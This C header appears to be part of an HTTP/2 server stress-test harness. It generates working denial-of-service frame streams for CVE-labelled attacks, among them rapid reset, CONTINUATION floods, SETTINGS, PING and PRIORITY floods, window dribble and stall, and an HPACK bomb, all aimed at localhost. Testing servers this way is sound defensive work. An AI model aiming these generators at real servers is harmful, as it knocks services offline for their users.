// Ways to abuse HTTP/2 (RFC 9113 §10.5), as frames: what a connection says at first, and then over and over.
#pragma once
#include "../loops/frames.h"

enum { attack_room = 32768, attack_streams = 100 };

struct attack {
  uint32_t stream;  // the next new one
  uint64_t frames;
  bool has_greeted, has_opened, owes_acknowledgement;
};

struct kind {
  const char *name;
  uint32_t window;  // SETTINGS_INITIAL_WINDOW_SIZE, and the connection's beyond its first octets
  const char *path; // what is asked for, by the requests of an attack that has some
  bool reads;
  int requests;     // so many are made at first; they stay open
  bool has_body;    // their bodies never come to an end
  // Frames to send, some 16 KiB of them at most; 0 octets when it says nothing (more).
  size_t (*say)(struct attack *attack, const struct kind *kind, int port, char *into);
};

// A request's HEADERS; `flags` beside END_HEADERS. A method of 0x82 is GET, 0x83 POST.
static inline char *put_request(char *at, struct attack *attack, int method, const char *path, int port, int flags) {
  char authority[32], *head = at;
  int length = snprintf(authority, sizeof authority, "localhost:%d", port);
  at += frame_head;
  *at++ = (char)method, *at++ = (char)0x87;
  at = put_string(put_integer(at, 0, 4, 4), path, strlen(path));
  at = put_string(put_integer(at, 0, 4, 1), authority, (size_t)length);
  put_frame(head, (size_t)(at - head) - frame_head, frame_headers, flags | flag_end_headers, attack->stream);
  attack->stream += 2, attack->frames++;
  return at;
}

static inline char *put_number_frame(char *at, struct attack *attack, enum frame_type type, uint32_t stream,
    uint32_t number) {
  attack->frames++;
  return put_word(put_frame(at, 4, type, 0, stream), number);
}

static inline char *put_empty_frame(char *at, struct attack *attack, enum frame_type type, int flags, uint32_t stream) {
  attack->frames++;
  return put_frame(at, 0, type, flags, stream);
}

enum { said_at_once = 16384 };

// CVE-2023-44487: requests that are taken back at once.
static size_t say_reset(struct attack *attack, const struct kind *kind, int port, char *into) {
  char *at = into;
  while (at - into < said_at_once - 128) {
    uint32_t stream = attack->stream;
    at = put_request(at, attack, 0x82, kind->path, port, flag_end_stream);
    at = put_number_frame(at, attack, frame_reset, stream, 8);  // CANCEL
  }
  return (size_t)(at - into);
}

// CVE-2025-8671: requests that the server is made to reset, by what it must answer with an error of the stream. Some
// end the connection instead, which is as good; so each way goes alone.
enum made { made_by_nothing, made_by_too_much, made_by_data, made_by_priority };

static size_t say_made(struct attack *attack, const struct kind *kind, int port, char *into, enum made how) {
  char *at = into;
  while (at - into < said_at_once - 128) {
    uint32_t stream = attack->stream;
    at = put_request(at, attack, 0x82, kind->path, port, flag_end_stream);
    switch (how) {
      case made_by_nothing: at = put_number_frame(at, attack, frame_window_update, stream, 0); break;
      case made_by_too_much: at = put_number_frame(at, attack, frame_window_update, stream, 0x7FFFFFFF); break;
      case made_by_data: at = put_number_frame(at, attack, frame_data, stream, 0); break;
      case made_by_priority: at = put_number_frame(at, attack, frame_priority, stream, 0); break;  // too short
    }
  }
  return (size_t)(at - into);
}

static size_t say_nothing(struct attack *attack, const struct kind *kind, int port, char *into) {
  return say_made(attack, kind, port, into, made_by_nothing);
}

static size_t say_too_much(struct attack *attack, const struct kind *kind, int port, char *into) {
  return say_made(attack, kind, port, into, made_by_too_much);
}

static size_t say_late_data(struct attack *attack, const struct kind *kind, int port, char *into) {
  return say_made(attack, kind, port, into, made_by_data);
}

static size_t say_short_priority(struct attack *attack, const struct kind *kind, int port, char *into) {
  return say_made(attack, kind, port, into, made_by_priority);
}

static char *put_endless_head(char *at, struct attack *attack, const struct kind *kind, int port) {
  if (attack->has_opened) return at;
  char *head = at;
  attack->has_opened = true;
  at = put_request(at, attack, 0x82, kind->path, port, flag_end_stream);
  head[4] &= (char)~flag_end_headers;
  return at;
}

// CVE-2024-27316 and its kin: fields without an end.
static size_t say_continuation(struct attack *attack, const struct kind *kind, int port, char *into) {
  char *at = put_endless_head(into, attack, kind, port);
  for (int frame = 0; frame < 4; frame++) {
    char *head = at, value[4000];
    memset(value, 'v', sizeof value);
    at += frame_head;
    *at++ = 0;
    at = put_string(put_string(at, "x-more", 6), value, sizeof value);
    put_frame(head, (size_t)(at - head) - frame_head, frame_continuation, 0, attack->stream - 2);
    attack->frames++;
  }
  return (size_t)(at - into);
}

// The same without an octet of fields.
static size_t say_empty_continuation(struct attack *attack, const struct kind *kind, int port, char *into) {
  char *at = put_endless_head(into, attack, kind, port);
  while (at - into < said_at_once) at = put_empty_frame(at, attack, frame_continuation, 0, attack->stream - 2);
  return (size_t)(at - into);
}

// CVE-2019-9515: each is to be acknowledged.
static size_t say_settings(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)kind, (void)port;
  char *at = into;
  while (at - into < said_at_once) at = put_empty_frame(at, attack, frame_settings, 0, 0);
  return (size_t)(at - into);
}

// CVE-2019-9512.
static size_t say_ping(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)kind, (void)port;
  char *at = into;
  while (at - into < said_at_once) {
    at = put_word(put_word(put_frame(at, 8, frame_ping, 0, 0), 0), (uint32_t)attack->frames);
    attack->frames++;
  }
  return (size_t)(at - into);
}

// CVE-2019-9513: a tree of streams that nobody opens, built and rebuilt.
static size_t say_priority(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)kind, (void)port;
  char *at = into;
  while (at - into < said_at_once) {
    uint32_t stream = (uint32_t)(attack->frames * 2 % 2000) + 1, parent = (uint32_t)(attack->frames * 14 % 2000) + 1;
    at = put_word(put_frame(at, 5, frame_priority, 0, stream), (parent == stream ? 0 : parent) | 0x80000000u);
    *at++ = (char)attack->frames;
    attack->frames++;
  }
  return (size_t)(at - into);
}

// The same in the words of RFC 9218 §7.1.
static size_t say_priority_update(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)kind, (void)port;
  char *at = into;
  while (at - into < said_at_once) {
    at = put_word(put_frame(at, 9, frame_priority_update, 0, 0), (uint32_t)(attack->frames * 2 % 200000) + 1);
    at = (char *)memcpy(at, "u=1,i", 5) + 5;
    attack->frames++;
  }
  return (size_t)(at - into);
}

// CVE-2019-9518: octets of a body that are none.
static size_t say_empty_data(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)kind, (void)port;
  char *at = into;
  while (at - into < said_at_once) at = put_empty_frame(at, attack, frame_data, 0, 1);
  return (size_t)(at - into);
}

// CVE-2019-9511: answers are asked for, and taken octet by octet.
static size_t say_dribble(struct attack *attack, const struct kind *kind, int port, char *into) {
  (void)port;
  char *at = into;
  while (at - into < said_at_once) {
    uint32_t stream = (uint32_t)(attack->frames % (uint64_t)kind->requests) * 2 + 1;
    at = put_number_frame(at, attack, frame_window_update, stream, 1);
  }
  return (size_t)(at - into);
}

// CVE-2016-6581: a field of 4,000 octets that is put into the table once, and named by one octet ever after.
static size_t say_bomb(struct attack *attack, const struct kind *kind, int port, char *into) {
  char *head = into, *at = put_request(into, attack, 0x82, kind->path, port, flag_end_stream), value[4000];
  memset(value, 'v', sizeof value);
  *at++ = 0x40;
  at = put_string(put_string(at, "x-bomb", 6), value, sizeof value);
  while (at - into < frame_head + frame_limit) *at++ = (char)0xBE;
  put_frame(head, (size_t)(at - head) - frame_head, frame_headers, flag_end_stream | flag_end_headers,
      attack->stream - 2);
  return (size_t)(at - into);
}

static const struct kind kinds[] = {
  {"rapid-reset", 0x7FFFFFFF, "/delay/20/pass/1k", true, 0, false, say_reset},
  {"reset-by-no-window", 0x7FFFFFFF, "/delay/20/pass/1k", true, 0, false, say_nothing},
  {"reset-by-window", 0x7FFFFFFF, "/delay/20/pass/1k", true, 0, false, say_too_much},
  {"reset-by-data", 0x7FFFFFFF, "/delay/20/pass/1k", true, 0, false, say_late_data},
  {"reset-by-priority", 0x7FFFFFFF, "/delay/20/pass/1k", true, 0, false, say_short_priority},
  {"continuation", 65535, "/1k", true, 0, false, say_continuation},
  {"empty-continuation", 65535, "/1k", true, 0, false, say_empty_continuation},
  {"settings", 65535, "/1k", true, 0, false, say_settings},
  {"settings-unread", 65535, "/1k", false, 0, false, say_settings},
  {"ping", 65535, "/1k", true, 0, false, say_ping},
  {"ping-unread", 65535, "/1k", false, 0, false, say_ping},
  {"priority", 65535, "/1k", true, 0, false, say_priority},
  {"priority-update", 65535, "/1k", true, 0, false, say_priority_update},
  {"empty-data", 65535, "/pass/1k", true, 1, true, say_empty_data},
  {"hpack-bomb", 65535, "/1k", true, 0, false, say_bomb},
  {"window-stall", 0, "/8m", true, attack_streams, false, NULL},
  {"window-stall-passed", 0, "/pass/8m", true, attack_streams, false, NULL},
  {"dribble", 0, "/8m", true, attack_streams, false, say_dribble},
  {"unread", 0x7FFFFFFF, "/8m", false, attack_streams, false, NULL},  // CVE-2019-9517
};

enum { kind_count = sizeof kinds / sizeof *kinds };

static inline const struct kind *kind_named(const char *name) {
  for (int i = 0; i < kind_count; i++)
    if (strcmp(kinds[i].name, name) == 0) return &kinds[i];
  return NULL;
}

static inline const char *kind_names(void) {
  static char names[512];
  for (int i = 0; i < kind_count && !names[0]; i++)
    for (int j = 0; j < kind_count; j++) strcat(strcat(names, " "), kinds[j].name);
  return names;
}

// The next octets of an attack; 0 when it has nothing to say now.
static inline size_t attack_next(struct attack *attack, const struct kind *kind, int port, char *into) {
  char *at = into;
  if (!attack->has_greeted) {
    attack->has_greeted = true;
    at = (char *)memcpy(at, preface, preface_size) + preface_size;
    at = put_frame(at, 6, frame_settings, 0, 0);
    *at++ = 0, *at++ = 4, at = put_word(at, kind->window);
    at = put_frame(at, 4, frame_window_update, 0, 0);
    at = put_word(at, 0x7FFFFFFF - 65535);
    int method = kind->has_body ? 0x83 : 0x82, flags = kind->has_body ? 0 : flag_end_stream;
    for (int i = 0; i < kind->requests; i++) at = put_request(at, attack, method, kind->path, port, flags);
    return (size_t)(at - into);
  }
  if (attack->owes_acknowledgement) {
    attack->owes_acknowledgement = false;
    // None within a block of fields.
    if (!attack->has_opened) return (size_t)(put_frame(at, 0, frame_settings, flag_ack, 0) - into);
  }
  return kind->say ? kind->say(attack, kind, port, into) : 0;
}
